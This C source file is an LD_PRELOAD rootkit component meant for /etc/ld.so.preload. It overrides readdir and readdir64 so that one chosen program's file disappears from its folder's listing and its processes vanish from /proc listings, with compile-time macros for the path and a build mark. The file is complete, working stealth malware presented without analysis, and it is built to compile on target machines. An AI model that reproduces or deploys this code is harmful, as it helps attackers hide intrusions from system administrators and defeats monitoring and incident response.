/*
 * Preloaded into every program (/etc/ld.so.preload), it leaves one program out of the listings of folders: the file
 * itself, and in /proc the processes whose command line names it first or, behind an interpreter, second. Whoever asks
 * for either by its path finds it.
 *
 * PROGRAM is the program's path, FOLDER and NAME are its parts, MARK tells this build from any other.
 *
 * It includes nothing: a node with a compiler need not have the headers of its C library. So what it needs is declared
 * here, as Linux on 64-bit machines and the C library GNU have it.
 */
struct entry {
  unsigned long number;
  long offset;
  unsigned short length;
  unsigned char type;
  char name[256];
};

extern void *dlsym(void *library, const char *symbol);
extern int dirfd(void *listing);
extern long readlink(const char *path, char *target, unsigned long size);
extern int open(const char *path, int flags, ...);
extern long read(int file, void *bytes, unsigned long size);
extern int close(int file);
extern int snprintf(char *text, unsigned long size, const char *format, ...);
extern int strcmp(const char *one, const char *other);
extern unsigned long strlen(const char *text);
extern int *__errno_location(void);

#define NEXT_LIBRARY ((void *)-1L)
#define CLOSE_ON_EXEC 02000000

const char mark[] = MARK;

static int lists(void *listing, const char *folder) {
  char link[64], path[512];
  snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(listing));
  long length = readlink(link, path, sizeof path - 1);
  if (length < 0) return 0;
  path[length] = 0;
  return strcmp(path, folder) == 0;
}

static int runs_program(const char *process) {
  char path[64], words[512];
  snprintf(path, sizeof path, "/proc/%.20s/cmdline", process);
  int file = open(path, CLOSE_ON_EXEC);
  if (file < 0) return 0;
  long length = read(file, words, sizeof words - 1);
  close(file);
  if (length <= 0) return 0;
  words[length] = 0;
  unsigned long first = strlen(words) + 1;
  return strcmp(words, PROGRAM) == 0 || (first < (unsigned long)length && strcmp(words + first, PROGRAM) == 0);
}

static int hidden(void *listing, const char *name) {
  if (strcmp(name, NAME) == 0) return lists(listing, FOLDER);
  if (name[0] < '1' || name[0] > '9') return 0;
  return lists(listing, "/proc") && runs_program(name);
}

static struct entry *next(const char *function, void *listing) {
  struct entry *(*original)(void *) = dlsym(NEXT_LIBRARY, function);
  struct entry *entry;
  /* At the end of a listing errno tells whether it failed. */
  int *error = __errno_location(), before = *error;
  while ((entry = original(listing)) != 0 && hidden(listing, entry->name)) *error = before;
  if (entry != 0) *error = before;
  return entry;
}

struct entry *readdir(void *listing) { return next("readdir", listing); }
struct entry *readdir64(void *listing) { return next("readdir64", listing); }
